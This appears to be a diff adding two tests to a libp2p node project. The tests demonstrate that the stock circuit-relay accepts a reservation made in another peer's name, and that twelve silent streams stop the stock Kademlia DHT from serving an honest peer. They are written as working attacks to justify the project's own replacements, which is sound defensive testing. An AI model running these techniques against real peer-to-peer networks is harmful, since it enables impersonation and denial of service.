@@ -24,6 +24,9 @@ import trio
 from libp2p import new_host
 from libp2p.crypto.ed25519 import create_new_key_pair
 from libp2p.crypto.x25519 import create_new_key_pair as create_noise_key_pair
+from libp2p.host.exceptions import StreamFailure
+from libp2p.kad_dht.kad_dht import DHTMode, KadDHT
+from libp2p.kad_dht.pb.kademlia_pb2 import Message as KadMessage
 from libp2p.network.exceptions import SwarmException
 from libp2p.network.stream.exceptions import StreamEOF, StreamReset
 from libp2p.peer.id import ID
@@ -31,6 +34,7 @@ from libp2p.peer.peerinfo import PeerInfo
 from libp2p.pubsub.gossipsub import PROTOCOL_ID_V11, PROTOCOL_ID_V12, GossipSub
 from libp2p.pubsub.pb import rpc_pb2
 from libp2p.pubsub.pubsub import PUBSUB_SIGNING_PREFIX, Pubsub
+from libp2p.relay.circuit_v2.protocol import CircuitV2Protocol
 from libp2p.security.insecure.transport import PLAINTEXT_PROTOCOL_ID, InsecureTransport
 from libp2p.security.noise.transport import PROTOCOL_ID as NOISE
 from libp2p.security.noise.transport import Transport as Noise
@@ -44,6 +48,7 @@ from node.errors import Fault
 from node.host import Host, open_host
 from node.keys import PeerKey
 from node.libp2p_guard import CONNECTION_BUFFER_LIMIT, Limits, open_guard
+from node.relay_messages import HOP, HopMessage
 from node.streams import StreamBroken
 from protocol.errors import LocalProtocolError
 from protocol.ids import PeerId
@@ -793,3 +798,42 @@ async def test_streams_of_one_peer_are_counted() -> None:
         assert opened <= 4
         penalty = next(p.penalty for p in host.peers() if p.peer_id == made.peer_id)
         assert penalty > 0
+
+
+async def test_the_stock_relay_reserves_in_anothers_name() -> None:
+    """Why node.relay is our own; tests/node/test_relay.py shows that it does not."""
+    async with stock_host(VICTIM) as made, attacker() as rude, stock_host(seed(3)) as honest:
+        relay = CircuitV2Protocol(made.host, allow_hop=True)
+        async with background_trio_service(relay):
+            await relay.event_started.wait()
+            await honest.connect(made.peer_id, made.address)
+            await rude.connect(made.peer_id, made.address)
+            stream = await rude.stream(made.peer_id, HOP)
+            message = HopMessage(type=HopMessage.RESERVE)
+            message.peer.id = honest.host.get_id().to_bytes()
+            await stream.write(encode_varint_prefixed(message.SerializeToString()))
+            with trio.fail_after(5):
+                await stream.read(1)
+            assert relay.resource_manager.has_reservation(honest.host.get_id())
+
+
+async def test_twelve_silent_streams_stop_stock_kademlia() -> None:
+    """Why node.kademlia is our own; tests/node/test_discovery.py shows that they do not."""
+    target = ID.from_string(PeerKey(seed(5)).peer_id)
+    question = KadMessage(type=KadMessage.FIND_NODE, key=target.to_bytes())
+    async with stock_host(VICTIM) as made, attacker() as rude, stock_host(seed(3)) as honest:
+        KadDHT(made.host, DHTMode.SERVER)
+        await honest.connect(made.peer_id, made.address)
+        await rude.connect(made.peer_id, made.address)
+        said = encode_varint_prefixed(question.SerializeToString())
+        stream = await honest.stream(made.peer_id, "/ipfs/kad/1.0.0")
+        await stream.write(said)
+        assert await stream.read(1)
+        await stream.close()
+        for _ in range(12):
+            await rude.stream(made.peer_id, "/ipfs/kad/1.0.0")
+        await trio.sleep(0.2)
+        with pytest.raises((SwarmException, StreamFailure, StreamEOF, StreamReset)):  # noqa: PT012
+            stream = await honest.stream(made.peer_id, "/ipfs/kad/1.0.0")
+            await stream.write(said)
+            await stream.read(1)
